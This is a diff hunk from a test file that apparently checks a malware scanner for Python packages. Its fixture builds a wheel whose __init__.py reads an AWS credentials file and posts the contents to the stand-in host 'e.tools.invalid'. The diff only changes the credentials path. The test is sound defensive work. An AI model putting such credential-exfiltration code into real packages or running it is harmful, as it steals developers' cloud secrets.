@@ -519,7 +519,7 @@ test('templates, settings and requests that are filled in are no clients, whatev
 });
 
 test('a few lines that tell a fixed host the secrets of files, and never read an answer, are malware on call as well', async () => {
-  const lines = ['import requests', 'def load(path=".env"):', '    d = open("/root/.aws/credentials").read()'];
+  const lines = ['import requests', 'def load(path=".env"):', '    d = open("/home/dev/.aws/credentials").read()'];
   const taken = wheel({
     'pkg/__init__.py': python(...lines, "    requests.post('https://e.tools.invalid/v', data=d)"),
   });
